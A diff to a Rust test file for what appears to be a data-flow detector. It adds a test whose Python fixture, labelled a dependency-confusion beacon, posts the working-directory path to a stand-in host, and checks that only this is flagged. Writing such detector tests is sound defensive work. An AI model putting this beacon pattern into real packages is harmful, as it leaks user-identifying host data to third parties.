@@ -294,6 +294,19 @@ fn host_identity_reaches_a_request_through_encoding() {
 }
 
 #[test]
+fn the_working_folder_sent_is_host_identity_and_used_locally_is_not() {
+    // The folder's path names the user: a dependency-confusion beacon sends it alone.
+    let sent = "import os, requests\ndata = {'pkg': 'x', 'cwd': os.getcwd()}\nrequests.post('https://c.example.invalid/', json=data)\n";
+    let found = py(sent);
+    assert!(
+        found.iter().any(|f| f.0 == FlowKind::HostInfoToNetwork),
+        "{found:?}"
+    );
+    let local = "import os, requests\nconfig = os.path.join(os.getcwd(), 'app.toml')\nrequests.get('https://api.example.invalid/v1/version')\n";
+    assert!(py(local).is_empty(), "{:?}", py(local));
+}
+
+#[test]
 fn host_identity_logged_is_quiet_and_looked_up_is_a_flow() {
     let text = "import socket, logging, requests\nhost = socket.gethostname()\nlogging.info('on %s', host)\nrequests.get('https://api.example.invalid/v1')\n";
     assert!(py(text).is_empty(), "{:?}", py(text));
